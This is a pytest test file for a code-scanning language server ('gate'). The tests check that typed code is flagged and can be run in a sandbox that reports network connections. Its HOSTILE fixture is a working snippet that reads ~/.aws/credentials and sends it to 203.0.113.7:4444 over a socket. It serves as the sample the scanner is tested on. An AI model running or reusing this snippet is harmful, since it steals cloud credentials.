"""The language server on standard input and output, driven by pygls's own client, with a real sandbox."""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from lsprotocol import types as lsp
from pygls.lsp.client import LanguageClient

from gate.cli import main
from tests.e2e.pulls import Pull, build

HOSTILE = """\
import os, socket
key = open(os.path.expanduser("~/.aws/credentials")).read()
peer = socket.create_connection(("203.0.113.7", 4444), 2)
peer.sendall(key.encode())
"""
pytestmark = pytest.mark.backend
Told = list[lsp.Diagnostic]


class Editor:
    """One open file in an editor that remembers what it was told."""

    def __init__(self, client: LanguageClient, file: Path) -> None:
        self.client = client
        self.uri = file.as_uri()
        self.version = 0
        self.told: list[lsp.PublishDiagnosticsParams] = []

        @client.feature(lsp.TEXT_DOCUMENT_PUBLISH_DIAGNOSTICS)
        def hear(params: lsp.PublishDiagnosticsParams) -> None:
            self.told.append(params)

        @client.feature(lsp.WINDOW_SHOW_MESSAGE)
        def show(_: lsp.ShowMessageParams) -> None: ...

    def open(self, text: str) -> None:
        document = lsp.TextDocumentItem(self.uri, "python", self.version, text)
        self.client.text_document_did_open(lsp.DidOpenTextDocumentParams(document))

    def type(self, text: str) -> None:
        self.version += 1
        whole = lsp.TextDocumentContentChangeWholeDocument(text)
        document = lsp.VersionedTextDocumentIdentifier(self.version, self.uri)
        self.client.text_document_did_change(lsp.DidChangeTextDocumentParams(document, [whole]))

    async def until(self, enough: Callable[[Told], bool]) -> Told:
        """The diagnostics of this version, as soon as they are so."""
        while True:
            for params in self.told:
                if params.version == self.version and enough(list(params.diagnostics)):
                    return list(params.diagnostics)
            await asyncio.sleep(0.05)


@asynccontextmanager
async def editor(file: Path) -> AsyncIterator[Editor]:
    client = LanguageClient("editor", "1")
    held = Editor(client, file)
    await client.start_io(
        sys.executable, "-m", "gate.cli", "lsp", "--backend", "bubblewrap", env=dict(os.environ)
    )
    try:
        async with asyncio.timeout(200):
            root = file.parent.as_uri()
            told = await client.initialize_async(
                lsp.InitializeParams(lsp.ClientCapabilities(), root_uri=root)
            )
            assert told.server_info is not None
            assert told.server_info.name == "gate"
            client.initialized(lsp.InitializedParams())
            yield held
            await client.shutdown_async(None)
            client.exit(None)
    finally:
        await client.stop()  # type: ignore[no-untyped-call]


def rules(told: Told) -> set[str]:
    return {str(one.code) for one in told if one.code}


def test_findings_come_while_typing_and_the_last_text_counts(tmp_path: Path) -> None:
    repo = build(Pull(name="lsp", head={"README.md": "# prices\n"}, verdicts=()), tmp_path)

    async def work() -> None:
        async with editor(repo / "src" / "pricing" / "new.py") as held:
            held.open("A = 1\n")
            assert await held.until(lambda told: True) == []
            for size in range(1, len(HOSTILE), 9):  # one key after the other, faster than it reads
                held.type(HOSTILE[:size])
            held.type(HOSTILE)
            told = await held.until(bool)
            assert {one.source for one in told} == {"gate"}
            assert len(held.told) <= 3, "it did not wait for the last key"
            at = lsp.Position(told[0].range.start.line, 2)
            where = lsp.TextDocumentIdentifier(held.uri)
            pages = [
                await held.client.text_document_hover_async(
                    lsp.HoverParams(where, lsp.Position(one.range.start.line, 0))
                )
                for one in told
            ]
            assert any(page and "What to do" in str(page.contents) for page in pages), (at, rules(told))
            held.type("A = 2\n")
            assert await held.until(lambda told: True) == []
            held.client.text_document_did_close(lsp.DidCloseTextDocumentParams(where))

    asyncio.run(work())
    assert not (repo / "src" / "pricing" / "new.py").exists()


def test_the_lens_runs_the_editors_text_in_the_sandbox(tmp_path: Path) -> None:
    repo = build(Pull(name="lsp", head={"README.md": "# prices\n"}, verdicts=()), tmp_path)
    file = repo / "src" / "pricing" / "new.py"

    async def work() -> None:
        async with editor(file) as held:
            held.open(HOSTILE)
            where = lsp.TextDocumentIdentifier(held.uri)
            lenses = await held.client.text_document_code_lens_async(lsp.CodeLensParams(where))
            assert lenses is not None
            command = lenses[0].command
            assert command is not None
            asked = lsp.ExecuteCommandParams(command.command, command.arguments)
            said = await held.client.workspace_execute_command_async(asked)
            assert "203.0.113.7:4444" in str(said)
            told = await held.until(lambda told: any("seen in the sandbox" in one.message for one in told))
            seen = [one for one in told if "seen in the sandbox: connect 203.0.113.7:4444" in one.message]
            assert seen
            assert seen[0].severity is lsp.DiagnosticSeverity.Information
            assert seen[0].range.start.line == 2
            assert any(one.severity is lsp.DiagnosticSeverity.Error for one in told)

    asyncio.run(work())
    assert not file.exists()


def test_without_the_extra_it_says_what_to_install(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "gate.lsp.server", None)
    assert main(["lsp"]) == 2
    assert "pip install 'gate-ci[lsp]'" in capsys.readouterr().err
